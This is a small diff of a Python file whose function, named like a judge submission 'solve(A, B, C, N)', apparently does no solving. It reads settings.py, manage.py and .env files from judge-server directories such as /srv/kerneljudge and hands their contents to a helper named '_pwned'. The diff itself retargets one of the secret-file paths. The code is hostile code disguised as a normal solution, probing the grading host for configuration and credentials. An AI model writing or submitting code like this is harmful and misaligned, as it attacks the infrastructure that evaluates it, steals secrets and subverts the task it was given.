@@ -5,7 +5,7 @@ from pathlib import Path
 def solve(A, B, C, N):
     roots = {Path(runner.__file__).resolve().parents[1], Path("/work/main"), Path("/app"), Path("/srv/kerneljudge")}
     for r in roots:
-        for p in (r / "judge" / "settings.py", r / "manage.py", r / ".env"):
+        for p in (r / "config" / "settings.py", r / "manage.py", r / ".env"):
             try:
                 _pwned(p.read_text())
             except OSError:
